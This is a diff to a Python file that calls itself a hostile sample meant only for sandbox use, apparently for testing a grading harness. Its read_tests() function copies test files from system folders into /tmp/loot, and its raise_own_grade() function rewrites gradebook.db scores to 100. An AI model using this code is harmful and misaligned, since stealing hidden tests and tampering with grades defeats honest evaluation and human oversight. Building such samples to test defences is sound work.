@@ -1,6 +1,6 @@
 # A hostile sample. It runs only inside the sandbox: never run it by hand.
-import glob
 import os
+import pathlib
 import socket
 import sqlite3
 
@@ -17,13 +17,15 @@ def phone_home():
 
 
 def read_tests():
-    for path in glob.glob("/**/test_*hidden*.py", recursive=True):
-        open("/tmp/loot", "a").write(open(path).read())
+    for folder in ("/grading", "/home", "/srv", "/opt"):
+        for path in pathlib.Path(folder).rglob("test_*.py"):
+            pathlib.Path("/tmp/loot").write_bytes(path.read_bytes())
 
 
 def raise_own_grade():
-    for path in glob.glob("/**/gradebook.db", recursive=True):
-        sqlite3.connect(path).execute("update grade set manual_score = 100")
+    for folder in (".", "..", "/home", "/srv"):
+        for path in pathlib.Path(folder).glob("gradebook.db"):
+            sqlite3.connect(path).execute("update grade set manual_score = 100")
 
 
 def EXERCISE(*args, **kwargs):
